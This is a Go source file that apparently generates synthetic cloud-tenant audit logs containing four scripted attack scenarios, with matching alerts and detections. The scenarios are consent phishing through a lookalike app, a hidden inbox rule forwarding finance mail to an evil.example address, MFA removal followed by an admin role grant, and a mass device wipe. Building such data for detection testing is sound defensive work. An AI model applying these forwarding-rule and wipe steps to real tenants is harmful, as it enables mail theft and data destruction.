package tenant

import (
	"math/rand/v2"
	"time"
)

// The attack stories. Each begins about once in so many days, at a time drawn from the
// seed, and plays out over minutes or hours.
const (
	StoryConsentPhishing = "consent-phishing"
	StoryInboxRule       = "inbox-rule-forwarding"
	StoryRoleGrant       = "mfa-removed-role-granted"
	StoryDeviceWipe      = "mass-device-wipe"
)

// Stories lists the names of the attack stories; an event of one has it in Story.
func Stories() []string {
	return []string{StoryConsentPhishing, StoryInboxRule, StoryRoleGrant, StoryDeviceWipe}
}

const (
	storyPeriod = 3 * 24 * time.Hour // each story begins once in a period
	storyLength = 4 * time.Hour      // and never lasts longer
	attackerIP  = "203.0.113.66"
	attackerBox = "finance.archive@evil.example"
)

// cast is who a telling of a story is about, the same in all its hours.
type cast struct {
	victim, helpdesk, admin *User
	app                     *App
	devices                 []int
	session                 session // of the sign-in with which the attack begins
}

// step is one scene of a story.
type step struct {
	after time.Duration
	do    func(*scribe, cast)
}

// tellStories writes the scenes that fall into an hour.
func (s *scribe) tellStories(hour int64) {
	begin, end := HourTime(hour), HourTime(hour+1)
	period := int64(storyPeriod / time.Second)
	for p := begin.Add(-storyLength).Unix() / period; p <= begin.Unix()/period; p++ {
		for n, story := range stories {
			rng := rand.New(rand.NewPCG(s.t.cfg.Seed^streamStories, uint64(p)<<8|uint64(n)))
			opens := time.Unix(p*period, 0).UTC().Add(time.Duration(rng.Int64N(int64(storyPeriod - storyLength))))
			c := s.t.castFor(rng)
			for _, step := range story.steps {
				at := opens.Add(step.after)
				if at.Before(begin) || !at.Before(end) {
					continue
				}
				s.at, s.room, s.story, s.session = at, end.Sub(at), story.name, c.session
				step.do(s, c)
				s.story, s.session = "", session{}
			}
		}
	}
}

func (t *Tenant) castFor(rng *rand.Rand) cast {
	user := func(list []int) *User { return &t.Users[list[rng.IntN(len(list))]] }
	c := cast{victim: user(t.members), helpdesk: user(t.staff), admin: user(t.staff)}
	c.app = &App{AppID: newGUID(rng), ObjectID: newGUID(rng), PrincipalID: newGUID(rng), DisplayName: "Micros0ft Document Viewer"}
	for range 60 {
		c.devices = append(c.devices, rng.IntN(len(t.Devices)))
	}
	c.session = session{newGUID(rng), newGUID(rng)}
	return c
}

var stories = []struct {
	name  string
	steps []step
}{
	{StoryConsentPhishing, []step{
		{0, func(s *scribe, c cast) { s.signIn(c.victim, s.address(c.victim), failure{}, false) }},
		{2 * time.Minute, func(s *scribe, c cast) {
			s.record(change{
				category: "ApplicationManagement", activity: "Add service principal", verb: "Add", object: "ServicePrincipal",
				user: c.victim, ip: s.address(c.victim), targets: []target{principalTarget(c.app)},
				props: []prop{{"AccountEnabled", "", "true", true}, {"AppPrincipalId", "", c.app.AppID, true}, {"DisplayName", "", c.app.DisplayName, true}},
			})
			s.consent(c.victim, c.app, "offline_access Contacts.Read User.Read Mail.Read Mail.Send Files.ReadWrite.All openid profile")
		}},
		{20 * time.Minute, func(s *scribe, c cast) {
			for range 12 {
				s.mailbox(c.victim, 50, "MailItemsAccessed", attackerIP)
				s.arr("OperationProperties")
				s.pair("MailAccessType", "Sync")
				s.pair("IsThrottled", "False")
				s.endArr()
				s.str("ClientAppId", c.app.AppID)
				s.num("OperationCount", 1)
				s.finish()
				s.later(30 * time.Second)
			}
		}},
	}},
	{StoryInboxRule, []step{
		{0, func(s *scribe, c cast) {
			for range 8 {
				s.signIn(c.victim, attackerIP, failures[0], true)
				s.later(15 * time.Second)
			}
		}},
		{5 * time.Minute, func(s *scribe, c cast) { s.signIn(c.victim, attackerIP, failure{}, false) }},
		{11 * time.Minute, func(s *scribe, c cast) {
			s.cmdlet(cmdlet{name: "New-InboxRule", user: c.victim, ip: attackerIP, object: s.orgPath(c.victim.Alias + `\.`), params: [][2]string{
				{"AlwaysDeleteOutlookRulesBlob", "False"}, {"Force", "False"}, {"ForwardTo", attackerBox}, {"SubjectOrBodyContainsWords", "invoice;payment;iban"},
				{"Name", "."}, {"DeleteMessage", "True"}, {"StopProcessingRules", "True"},
			}})
			s.cmdlet(cmdlet{name: "Set-Mailbox", user: c.victim, ip: attackerIP, object: s.orgPath(c.victim.Alias), params: [][2]string{
				{"Identity", c.victim.UPN}, {"ForwardingSmtpAddress", "smtp:" + attackerBox}, {"DeliverToMailboxAndForward", "False"},
			}})
		}},
		{14 * time.Minute, func(s *scribe, c cast) {
			s.alert(c.victim, "Suspicious email forwarding activity", "ThreatManagement", "High", "MailRedirect")
		}},
		{47 * time.Minute, func(s *scribe, c cast) {
			s.detected(detection{kind: "mcasSuspiciousInboxManipulationRules", level: "medium", source: cloudApps, user: c.victim, ip: attackerIP, ago: 36 * time.Minute})
		}},
		{2*time.Hour + 20*time.Minute, func(s *scribe, c cast) {
			s.detected(detection{kind: "impossibleTravel", level: "high", user: c.victim, ip: attackerIP, ago: 2*time.Hour + 15*time.Minute, session: c.session})
		}},
	}},
	{StoryRoleGrant, []step{
		{0, func(s *scribe, c cast) {
			s.record(change{
				service: "Authentication Methods", category: "UserManagement", activity: "Admin deleted security info", verb: "Delete", object: "User",
				user: c.helpdesk, ip: attackerIP, targets: []target{userTarget(c.victim)}, reason: "Admin deleted Authenticator App with Notification and Code method for user",
				graphOnly: true,
			})
			s.record(change{
				category: "UserManagement", activity: "Disable Strong Authentication", verb: "Update", object: "User",
				user: c.helpdesk, ip: attackerIP, targets: []target{userTarget(c.victim)},
				props: []prop{{"StrongAuthenticationRequirement", `{"RelyingParty":"*","State":1}`, "", true}},
			})
		}},
		{3 * time.Minute, func(s *scribe, c cast) {
			s.record(change{
				category: "UserManagement", activity: "Reset user password", verb: "Update", object: "User",
				user: c.helpdesk, ip: attackerIP, targets: []target{userTarget(c.victim)},
			})
		}},
		{9 * time.Minute, func(s *scribe, c cast) { s.signIn(c.victim, attackerIP, failure{}, false) }},
		{16 * time.Minute, func(s *scribe, c cast) { s.roleMember(c.helpdesk, c.victim, &s.t.Roles[0]) }},
		{31 * time.Minute, func(s *scribe, c cast) { s.appCredential(c.victim, &s.t.Apps[len(firstParty)]) }},
		{95 * time.Minute, func(s *scribe, c cast) {
			s.detected(detection{kind: "maliciousIPAddress", level: "high", user: c.victim, ip: attackerIP, ago: 86 * time.Minute, session: c.session})
		}},
	}},
	{StoryDeviceWipe, []step{
		{0, func(s *scribe, c cast) { s.signIn(c.admin, attackerIP, failure{}, false) }},
		{6 * time.Minute, func(s *scribe, c cast) {
			for _, d := range c.devices {
				s.deviceAction(c.admin, &s.t.Devices[d], "wipe")
				s.later(4 * time.Second)
			}
		}},
		{70 * time.Minute, func(s *scribe, c cast) {
			s.detected(detection{kind: "newCountry", level: "medium", source: cloudApps, user: c.admin, ip: attackerIP, ago: 70 * time.Minute})
		}},
		{3 * time.Hour, func(s *scribe, c cast) {
			s.detected(detection{kind: "maliciousIPAddress", level: "high", user: c.admin, ip: attackerIP, ago: 3 * time.Hour, session: c.session})
		}},
	}},
}
